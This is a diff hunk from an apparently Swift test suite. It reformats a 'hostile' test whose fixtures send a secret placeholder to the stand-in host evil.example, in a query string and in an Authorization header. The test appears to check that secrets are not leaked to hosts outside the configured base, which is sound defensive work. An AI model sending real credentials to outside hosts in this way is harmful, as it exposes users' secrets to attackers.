@@ -167,7 +167,9 @@ struct DriftSurveyTests {
     func hostile() async throws {
         let exchanges = [
             exchange(.get, "https://evil.example/?k={{secret:KEY}}", base: "https://api.h/", secrets: ["KEY"]),
-            exchange(.get, "https://evil.example/b", ["Authorization: {{secret:KEY}}"], base: "https://api.h/", secrets: ["KEY"]),
+            exchange(
+                .get, "https://evil.example/b", ["Authorization: {{secret:KEY}}"], base: "https://api.h/",
+                secrets: ["KEY"]),
             exchange(.get, "https://evil.example/c", base: "https://api.h/"),
         ]
         let base = try BaseURL("https://live.h/")
